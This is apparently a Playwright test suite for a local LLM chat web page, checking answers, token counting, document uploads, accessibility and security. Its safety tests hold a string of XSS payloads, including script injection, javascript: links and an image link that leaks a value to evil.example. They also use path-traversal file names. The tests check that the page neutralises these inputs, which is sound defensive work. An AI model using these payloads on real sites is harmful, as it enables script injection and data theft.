"""The chat page of `pigguf serve` in headless Chromium, on a real server with a real model."""

from __future__ import annotations

import json
import os
import re
import shutil
import time
import urllib.error
import urllib.request
from collections.abc import Callable, Iterator
from contextlib import closing
from pathlib import Path
from typing import Any

import pytest
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import Browser, Page, Request, Route, expect, sync_playwright
from support.running_server import RunningServer, running_server, server_with_limits
from support.sample_documents import pdf, word

import pigguf
from pigguf.rope import RopeOverrides

WINDOW = 4096
PAUSE = 60_000  # milliseconds to wait for the server on a busy machine

Visit = Callable[..., Page]


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    names = ("chromium", "chromium-browser", "google-chrome")
    found = next(filter(None, map(shutil.which, names)), None)
    if found is None:
        reason = "there is no Chromium: apt-get install chromium"
        pytest.fail(reason) if os.environ.get("CI") else pytest.skip(reason)
    arguments = ["--no-sandbox"] if os.getuid() == 0 else []
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=found, args=arguments)
        yield browser
        browser.close()


@pytest.fixture(scope="module")
def smollm2(smollm2_gguf: Path) -> Iterator[RunningServer]:
    with running_server(smollm2_gguf, "--ctx", str(WINDOW), "--slots", "2", "--no-prompt-cache") as served:
        yield served


@pytest.fixture
def visit(browser: Browser) -> Iterator[Visit]:
    """Open the page in a new browser, which may request nothing but the server, and must not fail."""
    visited: list[tuple[Page, str, list[str], list[str]]] = []
    expect.set_options(timeout=PAUSE)

    def open_page(served: RunningServer, settings: dict[str, Any] | None = None, **context: Any) -> Page:
        page = browser.new_context(viewport={"width": 1200, "height": 800}, **context).new_page()
        page.set_default_timeout(PAUSE)
        asked: list[str] = []
        failed: list[str] = []
        page.on("request", lambda request: asked.append(request.url))
        page.on("pageerror", lambda error: failed.append(str(error)))
        visited.append((page, served.url, asked, failed))
        chosen = json.dumps({"temperature": 0, "maxTokens": 40} | (settings or {}))
        key = "pigguf.settings"
        page.add_init_script(f"localStorage['{key}'] ||= {json.dumps(chosen)}")
        page.goto(served.url)
        return page

    yield open_page
    for page, url, asked, failed in visited:
        page.context.close()
        assert asked
        assert [one for one in asked if not one.startswith((f"{url}/", "blob:"))] == []
        assert failed == []


def ask(page: Page, text: str) -> None:
    page.get_by_label("Question", exact=True).fill(text)
    page.keyboard.press("Enter")


def drop(page: Page, name: str, data: str) -> None:
    """Drop a file on the page."""
    dragged = page.evaluate_handle(
        "([name, data]) => { const dragged = new DataTransfer();"
        " dragged.items.add(new File([data], name)); return dragged; }",
        [name, data],
    )
    page.dispatch_event("#scroll", "dragover", {"dataTransfer": dragged})
    expect(page.get_by_text("Drop it to attach it to your next question")).to_be_visible()
    page.dispatch_event("#scroll", "drop", {"dataTransfer": dragged})


def send(url: str, data: bytes | None = None, **headers: str) -> tuple[int, Any]:
    """Return the status and the JSON of a response."""
    try:
        with urllib.request.urlopen(urllib.request.Request(url, data, headers), timeout=60) as answer:
            return answer.status, json.load(answer)
    except urllib.error.HTTPError as error:
        with error:
            return error.code, json.load(error)


def send_document(served: RunningServer, name: str, data: bytes) -> tuple[int, Any]:
    headers = {"Content-Type": "application/octet-stream"}
    return send(f"{served.url}/documents?name={urllib.request.quote(name)}", data, **headers)  # type: ignore[attr-defined]


def tokens_of(served: RunningServer, text: str) -> int:
    data = json.dumps({"content": text}).encode()
    status, answer = send(f"{served.url}/tokenize", data, **{"Content-Type": "application/json"})
    assert status == 200
    return int(answer["count"])


def count(served: RunningServer, *texts: str) -> int:
    """Return the tokens of a conversation of alternating questions and answers."""
    messages = [
        {"role": ("user", "assistant")[index % 2], "content": text} for index, text in enumerate(texts)
    ]
    data = json.dumps({"messages": messages}).encode()
    return int(send(f"{served.url}/count", data, **{"Content-Type": "application/json"})[1]["count"])


# ---- asking --------------------------------------------------------------------------------------


def test_a_question_is_answered_and_counted(visit: Visit, smollm2: RunningServer) -> None:
    page = visit(smollm2)
    expect(page.get_by_text(f"with a context window of {WINDOW:,} tokens")).to_be_visible()
    expect(page.locator("#counts")).to_have_text(f"0 of {WINDOW:,} tokens")
    question = "Name the capital of France."
    page.get_by_label("Question", exact=True).fill(question)
    asked = count(smollm2, question)
    expect(page.locator("#counts")).to_have_text(f"{asked} of {WINDOW:,} tokens")
    page.keyboard.press("Enter")
    answer = page.locator(".answer")
    expect(answer.locator(".prose")).to_contain_text("Paris")
    assert re.search(rf"^\d+ tokens.* prompt of {asked}\b", answer.locator(".numbers").inner_text())
    expected = count(smollm2, question, answer.locator(".prose").inner_text())
    expect(page.locator("#counts")).to_have_text(f"{expected} of {WINDOW:,} tokens")
    expect(page.get_by_role("status")).to_contain_text("Paris")
    ask(page, "And of Italy?")
    expect(page.locator(".answer").nth(1).locator(".prose")).to_contain_text("Rome")


def test_an_answer_streams_is_stopped_and_retried(visit: Visit, smollm2: RunningServer) -> None:
    page = visit(smollm2, {"maxTokens": 1000, "temperature": 0.8})
    ask(page, "Write a long story about a pig that reads long books.")
    growing = page.locator("#live .prose")
    expect(growing).not_to_be_empty()
    before = growing.inner_text()
    expect(growing).not_to_have_text(before)
    page.get_by_role("button", name="Stop").click()
    answer = page.locator(".answer")
    expect(answer).to_contain_text("Stopped.")
    stopped = answer.locator(".prose").inner_text()
    assert len(stopped) > len(before)
    expect(page.get_by_role("button", name="Send")).to_be_visible()
    page.get_by_role("button", name="Retry").click()
    expect(growing).not_to_be_empty()
    page.keyboard.press("Escape")
    expect(answer).to_contain_text("Stopped.")
    expect(answer).to_have_count(1)
    assert answer.locator(".prose").inner_text() != stopped


# ---- documents and the window --------------------------------------------------------------------


def test_a_dropped_document_is_counted_and_goes_with_the_question(
    visit: Visit, smollm2: RunningServer
) -> None:
    page, text = visit(smollm2), "The secret word of this note is walnut.\n"
    drop(page, "note.txt", text)
    expect(page.locator("#waiting .count")).to_have_text(f"{tokens_of(smollm2, text)} tokens")
    question = "What is the secret word?"
    page.get_by_label("Question", exact=True).fill(question)
    expected = count(smollm2, send_document(smollm2, "note.txt", text.encode())[1]["text"] + question)
    expect(page.locator("#counts")).to_have_text(f"{expected} of {WINDOW:,} tokens")
    page.get_by_role("button", name="Send").click()
    expect(page.locator(".answer .prose")).to_contain_text("walnut")
    expect(page.locator(".question .chip")).to_contain_text("note.txt")
    assert f"prompt of {expected}" in page.locator(".numbers").inner_text()
    page.get_by_role("button", name="Remove from the conversation: note.txt").click()
    expect(page.locator(".question .chip")).to_have_count(0)
    with page.expect_request("**/v1/chat/completions") as sent:
        ask(page, "Thanks.")
    assert sent.value.post_data_json["messages"][0]["content"] == "What is the secret word?"
    expect(page.locator(".answer")).to_have_count(2)


def test_a_long_prompt_shows_progress_and_returns_to_the_draft_when_stopped(
    visit: Visit, smollm2: RunningServer, novel: str
) -> None:
    page = visit(smollm2)
    drop(page, "persuasion.txt", novel[:13_000])
    expect(page.locator("#waiting .count")).to_have_text(re.compile("tokens"))
    ask(page, "Who is the baronet?")
    expect(page.locator("#reading")).to_have_text(
        re.compile(r"Reading [\d,]+ of 3,\d{3} tokens · \d+ s left")
    )
    expect(page.get_by_role("progressbar", name="Reading")).to_be_visible()
    page.get_by_role("button", name="Stop").click()
    expect(page.locator("#waiting .name")).to_have_text("persuasion.txt")
    expect(page.get_by_label("Question", exact=True)).to_have_value("Who is the baronet?")
    expect(page.locator("#messages article")).to_have_count(0)


def test_an_overflow_is_shown_with_counts_and_can_be_fixed(
    visit: Visit, smollm2: RunningServer, novel: str
) -> None:
    page = visit(smollm2)
    drop(page, "chapter.txt", novel)
    notice = page.locator("#notice")
    expect(notice).to_contain_text(f"the window has {WINDOW:,}")
    expect(page.locator("#gauge")).to_have_attribute("data-state", "over")
    ask(page, "Who is Anne?")  # the server refuses it, and nothing is lost
    expect(notice).to_contain_text("too many")
    expect(page.get_by_label("Question", exact=True)).to_have_value("Who is Anne?")
    expect(page.locator("#messages article")).to_have_count(0)
    notice.get_by_role("button", name="Remove chapter.txt").click()
    expect(notice).to_be_hidden()
    page.get_by_role("button", name="Send").click()
    expect(page.locator(".answer .prose")).not_to_be_empty()


def test_document_formats_are_detected_from_bytes(smollm2: RunningServer, tmp_path: Path) -> None:
    made = pdf(tmp_path / "a.pdf", ["The pig is on page one.", "And here is page two."])
    status, read = send_document(smollm2, "../../etc/report.PDF", made.read_bytes())
    assert status == 200
    assert read["name"] == "../../etc/report.PDF"  # a label, which opens nothing
    assert read["text"].startswith("[Document: ../../etc/report.PDF]\nThe pig is on page one.")
    assert read["text"].endswith("[End of document: ../../etc/report.PDF]\n\n")
    status, read = send_document(
        smollm2, "x.docx", word(tmp_path / "a.docx", ["A pig.", "Two."]).read_bytes()
    )
    assert "A pig.\nTwo." in read["text"]
    plain = "Zwei Schweine 🐖\n"
    status, read = send_document(smollm2, "/etc/passwd", plain.encode())
    assert read["text"] == f"[Document: /etc/passwd]\n{plain}\n[End of document: /etc/passwd]\n\n"
    assert read["tokens"] == tokens_of(smollm2, plain)


def test_scanned_pages_of_a_document_are_reported(
    visit: Visit, smollm2: RunningServer, tmp_path: Path
) -> None:
    page, scanned = visit(smollm2), pdf(tmp_path / "half.pdf", ["Words.", None])
    page.get_by_label("Documents", exact=True).set_input_files(scanned)
    expect(page.locator("#notice")).to_contain_text("half.pdf: no text on page 2 of 2: not read")
    expect(page.locator("#waiting .count")).to_have_text(re.compile(r"^\d+ tokens$"))


def test_unreadable_documents_are_refused_by_name(smollm2: RunningServer, tmp_path: Path) -> None:
    status, answer = send_document(smollm2, "broken.pdf", b"%PDF-1.7 and then nothing")
    assert status == 400
    assert answer["error"]["code"] == "document_unreadable"
    assert answer["error"]["message"].startswith("broken.pdf is a damaged PDF")
    assert "tmp" not in answer["error"]["message"]
    assert send_document(smollm2, "picture", b"\x89PNG\r\n\x1a\n\0\0")[0] == 400
    assert send_document(smollm2, "latin.txt", "Füße".encode("latin-1"))[0] == 400
    status, answer = send_document(smollm2, "endless.txt", b"pig " * WINDOW * 100)
    assert (status, answer["error"]["code"]) == (413, "document_too_long")
    assert send(f"{smollm2.url}/documents", b"text", **{"Content-Type": "text/plain"})[0] == 415


def test_the_reason_of_a_refused_document_is_shown(
    visit: Visit, smollm2: RunningServer, tmp_path: Path
) -> None:
    page = visit(smollm2)
    broken = tmp_path / "broken.pdf"
    broken.write_bytes(b"%PDF-1.7 and then nothing")
    page.get_by_label("Documents", exact=True).set_input_files(broken)
    expect(page.locator("#notice")).to_contain_text("broken.pdf is a damaged PDF")
    expect(page.locator("#waiting .chip")).to_have_count(0)


# ---- a server that is busy, down, or needs a key--------------------------------------------------


def test_a_restarted_server_is_found_again_and_the_question_answered(visit: Visit, tiny_path: Path) -> None:
    with running_server(tiny_path, "--no-prompt-cache") as served:
        page, port = visit(served), int(served.url.rpartition(":")[2])
        ask(page, "One.")
        expect(page.locator(".answer .numbers")).to_have_text(re.compile("prompt of"))
    trouble = page.locator("#trouble")
    expect(trouble).to_contain_text("The server does not answer")
    ask(page, "Two.")
    expect(page.locator("#live")).to_contain_text("sent again when it is back")
    with running_server(tiny_path, "--no-prompt-cache", port=port):
        expect(page.locator(".answer")).to_have_count(2)
        expect(trouble).to_be_hidden()
        expect(page.locator(".question")).to_have_text(["One.", "Two."])


def test_a_full_queue_is_waited_for(visit: Visit, tiny_path: Path) -> None:
    with server_with_limits(tiny_path, queue=1) as served, closing(served.client()) as client:
        page = visit(served)
        expect(page.locator("#counts")).to_have_text("0 of 8,192 tokens")
        asked: Any = {"model": "tiny", "prompt": "Once", "temperature": 0}
        endless = client.completions.create(**asked, stream=True, max_tokens=8000)
        next(iter(endless))
        ask(page, "Two.")
        expect(page.locator("#live")).to_have_text("Waiting for the model…")
        page.get_by_role("button", name="New conversation").click()
        ask(page, "Three.")
        expect(page.locator("#live")).to_have_text(re.compile(r"Trying again in \d+ s"))
        endless.close()
        expect(page.locator(".answer .numbers")).to_have_text(re.compile("prompt of"), timeout=60_000)
        page.get_by_role("button", name="Two.", exact=True).click()  # which went on meanwhile
        expect(page.locator(".answer .numbers")).to_have_text(re.compile("prompt of"), timeout=60_000)


def test_an_api_key_is_requested_and_the_page_loads_without_it(visit: Visit, tiny_path: Path) -> None:
    with running_server(tiny_path, "--no-prompt-cache", "--api-key", "right") as served:
        assert send(f"{served.url}/about")[0] == 401
        page = visit(served)
        expect(page.get_by_role("alert").filter(has_text="asks for an API key")).to_be_visible()
        for key, wrong in (("wrong", True), ("right", False)):
            page.get_by_label("API key").fill(key)
            page.get_by_role("button", name="Save").click()
            if wrong:
                expect(page.locator("#key-trouble")).to_have_text("The server does not take this API key.")
        expect(page.locator("#counts")).to_have_text("0 of 8,192 tokens")
        ask(page, "One.")
        expect(page.locator(".answer .numbers")).to_have_text(re.compile("prompt of"))


# ---- what is saved -------------------------------------------------------------------------------


def test_conversations_are_saved_renamed_exported_and_deleted(visit: Visit, smollm2: RunningServer) -> None:
    page = visit(smollm2)
    ask(page, "Name the capital of France.")
    expect(page.locator(".answer")).to_contain_text("Paris")
    page.get_by_role("button", name="New conversation").click()
    drop(page, "note.txt", "The secret word is walnut.")
    expect(page.locator("#waiting .count")).to_have_text(re.compile("tokens"))
    page.get_by_label("Question", exact=True).fill("What is the secret word?")
    time.sleep(0.6)  # the draft is saved a moment after the last key
    page.reload()
    rows = page.get_by_role("navigation").get_by_role("listitem")
    expect(rows).to_have_count(2)
    expect(page.locator("#waiting .name")).to_have_text("note.txt")
    expect(page.get_by_label("Question", exact=True)).to_have_value("What is the secret word?")

    page.get_by_role("button", name="Name the capital of France.", exact=True).click()
    expect(page.locator(".answer")).to_contain_text("Paris")
    rows.filter(has_text="France").hover()
    page.get_by_role("button", name="Rename Name the capital").click()
    page.get_by_label("Name of the conversation").fill("Capitals")
    page.keyboard.press("Enter")
    expect(page.get_by_role("status")).to_have_text("Renamed: Capitals")
    page.reload()
    expect(page.locator("[aria-current]")).to_have_text("Capitals")
    expect(page.locator(".answer")).to_contain_text("Paris")

    rows.filter(has_text="Capitals").hover()
    with page.expect_download() as download:
        page.get_by_role("button", name="Export Capitals").click()
    assert download.value.suggested_filename == "Capitals.md"
    saved = Path(download.value.path()).read_text(encoding="utf-8")
    assert saved.startswith("# Capitals\n\n## Question\n\nName the capital of France.\n")
    assert "Paris" in saved

    page.get_by_role("button", name="Delete Capitals").click()
    expect(page.get_by_role("button", name="Capitals", exact=True)).to_have_count(0)
    page.get_by_role("button", name="Undo").click()
    expect(page.locator(".answer")).to_contain_text("Paris")
    rows.filter(has_text="Capitals").hover()
    page.get_by_role("button", name="Delete Capitals").click()
    expect(page.get_by_role("button", name="Undo")).to_be_visible()
    page.reload()
    expect(rows).to_have_count(1)


def test_settings_are_saved_and_change_the_answer(visit: Visit, smollm2: RunningServer) -> None:
    page = visit(smollm2)
    page.get_by_role("button", name="Settings").click()
    page.get_by_label("Longest answer").fill("3")
    page.get_by_label("System prompt").fill("You are a pig.")
    page.get_by_role("button", name="Save").click()
    page.reload()
    with page.expect_request("**/v1/chat/completions") as sent:
        ask(page, "Tell me about France.")
    asked = sent.value.post_data_json
    assert asked["max_tokens"] == 3
    assert asked["messages"][0] == {"role": "system", "content": "You are a pig."}
    expect(page.locator(".answer")).to_contain_text("Cut at the longest answer")
    expect(page.locator(".answer .numbers")).to_have_text(re.compile("^3 tokens"))


# ---- appearance and accessibility-----------------------------------------------------------------


def test_the_rope_scaling_of_the_file_is_explained_and_shown(
    visit: Visit, smollm2_gguf: Path, tmp_path: Path
) -> None:
    extended = tmp_path / "extended.gguf"
    rope = RopeOverrides(factor=4.0, original_context=8192, context=32768)
    pigguf.repair(smollm2_gguf, extended, rope=rope)
    with running_server(extended, "--ctx", "1024", "--no-prompt-cache") as served:
        status, about = send(f"{served.url}/about")
        assert status == 200
        assert about["rope"]["kind"] == "linear"
        page = visit(served)
        page.get_by_label("Question", exact=True).fill("Hello")
        used = count(served, "Hello")
        expect(page.locator("#counts")).to_have_text(f"{used} of 1,024 tokens")
        page.get_by_role("button", name="Context window:").click()
        panel = page.get_by_role("dialog", name="Rope scaling of the file")
        expect(panel).to_contain_text("This file divides every position by 4")
        expect(panel).to_contain_text("Original context8,192 tokensExtended context32,768 tokens")
        expect(panel).to_contain_text("Context of this server1,024 tokens")
        expect(panel).to_contain_text(f"ends at position {used}, which the model sees as {round(used / 4)}")
        rays = panel.locator(".ray")
        last = rays.last
        left, width = 14.0, 532.0  # of the figure
        assert float(last.get_attribute("x1") or 0) == pytest.approx(left + width)
        assert float(last.get_attribute("x2") or 0) == pytest.approx(left + width / 4)


def test_it_follows_the_systems_theme_until_one_is_chosen(visit: Visit, smollm2: RunningServer) -> None:
    page = visit(smollm2, color_scheme="dark")
    body = page.locator("body")

    def is_dark() -> bool:
        color = body.evaluate("body => getComputedStyle(body.parentElement).backgroundColor")
        return sum(map(int, re.findall(r"\d+", color)[:3])) < 3 * 128

    assert is_dark()
    page.emulate_media(color_scheme="light")
    assert not is_dark()
    for name in ("light", "dark"):
        page.get_by_role("button", name="Theme:").click()
        expect(page.get_by_role("button", name=f"Theme: {name}")).to_be_visible()
    assert is_dark()
    page.reload()
    assert is_dark()


def test_everything_is_reachable_by_keyboard(visit: Visit, smollm2: RunningServer) -> None:
    page = visit(smollm2, {"maxTokens": 12})
    expect(page.get_by_label("Question", exact=True)).to_be_focused()
    page.keyboard.type("Name a colour. Why? /")  # neither ? nor / is a shortcut while typing
    page.keyboard.press("Shift+Enter")
    page.keyboard.type("Briefly.")
    page.keyboard.press("Enter")
    expect(page.locator(".question p")).to_have_text("Name a colour. Why? /\nBriefly.")
    expect(page.locator(".answer .numbers")).to_have_text(re.compile("prompt of"))
    first = page.locator(".answer .prose").inner_text()
    assert first
    page.keyboard.press("Alt+r")
    expect(page.locator(".answer .numbers")).to_have_text(re.compile("prompt of"))
    expect(page.locator(".answer")).to_have_count(1)
    for keys, name in (("Alt+p", "Rope scaling of the file"), ("Alt+s", "Settings")):
        page.keyboard.press(keys)
        expect(page.get_by_role("dialog", name=name)).to_be_visible()
        page.keyboard.press("Escape")
        expect(page.get_by_role("dialog")).to_have_count(0)
        expect(page.get_by_label("Question", exact=True)).to_be_focused()
    page.keyboard.press("Shift+Tab")  # out of the question
    page.keyboard.press("?")
    shortcuts = page.get_by_role("dialog", name="Keyboard")
    expect(shortcuts).to_contain_text("Alt+NNew conversation")
    page.keyboard.press("Escape")
    page.keyboard.press("/")
    expect(page.get_by_label("Question", exact=True)).to_be_focused()
    page.keyboard.press("Alt+n")
    expect(page.locator("#messages article")).to_have_count(0)


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_axe_finds_no_accessibility_problems(visit: Visit, smollm2: RunningServer, scheme: str) -> None:
    page = visit(smollm2, color_scheme=scheme, bypass_csp=True)  # for axe's own script

    def check(what: str) -> None:
        found = Axe().run(page)
        assert found.violations_count == 0, f"{what}\n{found.generate_report()}"

    expect(page.locator("#empty-text")).not_to_be_empty()
    check("empty")
    drop(page, "note.txt", "A pig.")
    expect(page.locator("#waiting .count")).to_have_text(re.compile("tokens"))
    ask(page, "Write a Python function that adds two numbers.")
    expect(page.locator(".answer .numbers")).to_have_text(re.compile("prompt of"))
    check("an answer")
    for opener in ("Context window:", "Settings", "Keyboard shortcuts"):
        page.get_by_role("button", name=opener).click()
        check(opener)
        page.keyboard.press("Escape")
    page.set_viewport_size({"width": 380, "height": 700})
    page.get_by_role("button", name="Conversations").click()
    expect(page.get_by_role("button", name="New conversation")).to_be_in_viewport()
    check("narrow")
    assert page.evaluate("() => document.documentElement.scrollWidth") <= 380


# ---- safety --------------------------------------------------------------------------------------

HOSTILE = """
<script>window.pwned = 1; alert(1)</script>
<img src=x onerror="alert(2)"><svg onload="alert(3)"><iframe srcdoc="<script>alert(4)</script>"></iframe>

[a link](javascript:alert(5)) <javascript:alert(6)> [data](data:text/html,<script>alert(7)</script>)
![picture](https://evil.example/steal.png?q=secret) [honest](https://example.org/)

<a href="https://evil.example" onclick="alert(8)" id="send" name="body">x</a>
<style>* { display: none }</style><form action="https://evil.example"><input name=q></form>
<math><mtext><table><mglyph><style><img src=x onerror=alert(9)></style></mglyph></table></mtext></math>

```"><img/src=x/onerror=alert(10)>
code
```

[ref]: javascript:alert(11)
[ref] <link rel=stylesheet href=https://evil.example/x.css><base href=https://evil.example>
"""


def test_markup_in_an_answer_never_acts(visit: Visit, smollm2: RunningServer) -> None:
    """No real model can be made to give this answer, so the test sends it itself."""
    page = visit(smollm2)
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    parts = [HOSTILE[start : start + 7] for start in range(0, len(HOSTILE), 7)]
    events = [
        {"choices": [{"index": 0, "delta": {"content": part}, "finish_reason": None}]} for part in parts
    ]
    events.append({"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]})
    stream = "".join(f"data: {json.dumps(event)}\r\n\r\n" for event in events) + "data: [DONE]\r\n\r\n"

    def answer(route: Route, request: Request) -> None:
        route.fulfill(status=200, content_type="text/event-stream", body=stream)

    page.route("**/v1/chat/completions", answer)
    drop(page, "<img src=x onerror=alert(12)>.txt", "A pig.")
    expect(page.locator("#waiting .name")).to_have_text("<img src=x onerror=alert(12)>.txt")
    expect(page.locator("#waiting .count")).to_have_text(re.compile("tokens"))
    ask(page, "<img src=x onerror=alert(13)>")
    prose = page.locator(".answer .prose")
    expect(prose).to_contain_text("<script>window.pwned = 1; alert(1)</script>")
    expect(prose.get_by_role("link", name="honest")).to_have_attribute("href", "https://example.org/")
    assert prose.get_by_role("link", name="honest").get_attribute("rel") == "noopener noreferrer"
    for link in prose.locator("a[href]").all():
        assert re.match(r"https?://|mailto:", link.get_attribute("href") or "")
    for made in (
        "script",
        "img",
        "svg:not(.icon svg)",
        "iframe",
        "style",
        "form",
        "math",
        "link",
        "base",
        "[id]",
        "[name]",
    ):
        expect(prose.locator(made)).to_have_count(0)
    assert page.evaluate("() => window.pwned") is None
    time.sleep(0.3)
    assert dialogs == []
    page.reload()
    expect(prose).to_contain_text("alert(1)")
    assert dialogs == []


def test_the_content_security_policy_allows_only_this_server(smollm2: RunningServer) -> None:
    for path in ("/", "/static/main.js", "/static/page.css", "/static/vendor/marked.js"):
        with urllib.request.urlopen(smollm2.url + path, timeout=60) as answer:
            policy = answer.headers["Content-Security-Policy"]
            text = answer.read().decode()
        assert "default-src 'none'" in policy
        assert "script-src 'self';" in policy
        assert "connect-src 'self';" in policy
        assert "require-trusted-types-for 'script'" in policy
        assert not re.search(r"""(src|href)=["']?https?:|@import|url\(http""", text)
    assert send(f"{smollm2.url}/static/../page.py")[0] == 404


def test_the_content_security_policy_is_enforced(visit: Visit, smollm2: RunningServer) -> None:
    page = visit(smollm2)
    loaded = page.evaluate(
        "async () => {"
        " const blocked = new Promise((done) => addEventListener('securitypolicyviolation', (event) =>"
        "  done(event.effectiveDirective)));"
        " await fetch('https://example.invalid/').catch(() => {});"
        " return await blocked; }"
    )
    assert loaded == "connect-src"
